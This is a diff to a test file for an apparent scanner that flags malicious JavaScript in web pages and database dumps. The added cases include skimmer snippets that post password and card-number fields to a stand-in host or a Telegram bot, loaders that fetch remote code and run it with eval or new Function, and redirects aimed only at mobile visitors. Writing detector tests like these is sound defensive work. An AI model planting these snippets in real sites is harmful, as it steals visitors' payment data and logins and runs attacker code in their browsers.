@@ -35,6 +35,14 @@ def marks(text, name="a.js", kind="javascript"):
         + "'))",
         coded(f"location.href='//{HOST}/'"),
         coded("document.write('<iframe src=\"//" + HOST + "/\" width=1></iframe>')"),
+        coded(
+            "if(/iPhone/.test(navigator.userAgent)&&!document.cookie)location.href='//"
+            + HOST
+            + "/'"
+        ),
+        coded("window.open('//" + HOST + "/')"),
+        coded(LOAD.replace(HOST, "203.0.113.9")),
+        coded(LOAD.replace(HOST, "b.example.co.uk")),
     ],
 )
 def test_a_hidden_address(text):
@@ -51,6 +59,11 @@ def test_a_hidden_address(text):
         f"navigator.sendBeacon('https://{HOST}/log.php',btoa(o+location.host))}},900)",
         coded("jQuery('button').click(function(){$.post('https://" + HOST
               + "/x',{d:$('#payment').serialize()})})"),
+        # An address of one's own site, which looks like a picture and stands nowhere.
+        coded("new Image().src='/media/pixel.gif?d='+btoa(document.getElementById('cc_number')"
+              ".value)"),
+        coded("fetch('//" + HOST + "/g',{method:'POST',body:document.getElementById('password')"
+              ".value})"),
         "fetch('https://api.telegram.org/bot12345678:" + "A" * 35 + "/sendMessage?text='+"
         "document.getElementById('password').value)",
     ],
@@ -66,10 +79,37 @@ def test_fields_that_are_taken(text):
         ".then(r=>r.json()).then(j=>eval(atob(j.result)))",
         coded("var x=new XMLHttpRequest();x.onload=function(){eval(x.responseText)};"
               f"x.open('GET','//{HOST}/t');x.send()"),
+        f"fetch('https://{HOST}/t').then(r=>r.text()).then(t=>{{new Function('a',t)(1)}})",
     ],
 )  # fmt: skip
 def test_what_strangers_answer_is_run(text):
     assert "js-runs-stranger" in marks(text)
+
+
+def test_a_script_in_a_dump_of_a_table():
+    script = "var q=\\'x\\';\\n" + coded(LOAD)
+    text = f"INSERT INTO p VALUES ('<script>{script}</script>')"
+    assert marks(text, "a.sql", "sql") == ["js-hidden-address"]
+
+
+def test_names_of_card_fields_in_numbers():
+    names = "".join(
+        f"\\x{ord(c):02x}" for c in "cc_number,cc_cid,cc_exp_month,cc_exp_year,cc_owner"
+    )
+    assert marks(f"var n='{names}'.split(',');") == ["js-hides-card-words"]
+    assert (
+        marks(
+            f"var n='{names}'.split(',');/* cc_number cc_cid cc_exp_month cc_exp_year cc_owner */"
+        )
+        == []
+    )
+
+
+def test_one_kind_of_browser():
+    asked = "/android/i.test(navigator.userAgent)"
+    led = f"location.href='https://{HOST}/win'"
+    assert marks(f"if({asked}&&document.cookie.indexOf('s')<0){led}") == ["js-visitor-redirect"]
+    assert marks(f"if({asked}){led}") == []  # a site for telephones may have a name of its own
 
 
 def test_visitors_of_search_engines():
